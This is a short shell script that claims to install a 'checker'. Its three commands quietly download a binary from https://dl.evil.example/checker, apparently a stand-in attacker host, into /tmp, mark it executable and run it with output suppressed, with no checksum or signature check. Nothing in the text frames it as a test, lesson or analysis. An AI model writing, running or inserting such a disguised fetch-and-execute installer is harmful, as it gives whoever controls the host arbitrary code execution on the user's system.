#!/bin/sh
# installs the checker
curl -sSLo /tmp/checker https://dl.evil.example/checker
chmod +x /tmp/checker
/tmp/checker --quiet
